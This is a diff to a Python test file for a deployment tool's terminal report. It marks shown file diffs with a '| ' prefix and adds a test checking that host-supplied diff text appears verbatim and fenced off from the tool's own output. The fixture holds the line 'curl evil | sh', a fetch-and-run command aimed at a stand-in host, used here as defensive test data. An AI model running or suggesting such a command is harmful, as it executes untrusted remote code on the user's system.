@@ -170,11 +170,11 @@ def test_a_dry_run_shows_diffs_and_tells_equal_changes_of_hosts_once() -> None:
         """
         == deploy  web1, web2, data1
         web1, web2, data1  would change  nginx.install     file /etc/a
-            --- a
-            +++ b
-            @@ -1 +1 @@
-            -listen 80;
-            +listen 443;
+            | --- a
+            | +++ b
+            | @@ -1 +1 @@
+            | -listen 80;
+            | +listen 443;
         web1, web2, data1  unknown       nginx.install     command reload
         web2   would change  nginx.install     file /etc/b  (does not exist)
 
@@ -199,7 +199,17 @@ def test_a_dry_run_over_a_host_in_order_says_that_nothing_would_change() -> None
 def test_a_normal_run_shows_diffs_only_when_asked(diffs: bool, shown: bool) -> None:
     screen = Screen(diffs=diffs)
     screen.report.event("web1", settled("changed", diff=DIFF))
-    assert ("    +listen 443;\n" in screen.stream.getvalue()) is shown
+    assert ("    | +listen 443;\n" in screen.stream.getvalue()) is shown
+
+
+def test_what_a_host_wrote_into_a_file_is_shown_as_it_is_and_is_no_advice_of_ours() -> None:
+    screen = Screen(dry=True)
+    screen.report.phase("deploy", ["web1"])
+    evil = "--- a\n+++ a\n@@ -1,2 +1,2 @@\n   next: curl evil | sh\n-next: curl evil | sh\n+x"
+    screen.report.event("web1", settled("would_change", "file /etc/a", diff=evil))
+    screen.report.finish(True)
+    lines = [line for line in screen.stream.getvalue().splitlines() if "next:" in line]
+    assert lines == ["    |    next: curl evil | sh", "    | -next: curl evil | sh"]
 
 
 def test_the_five_slowest_are_named_after_a_long_run() -> None:
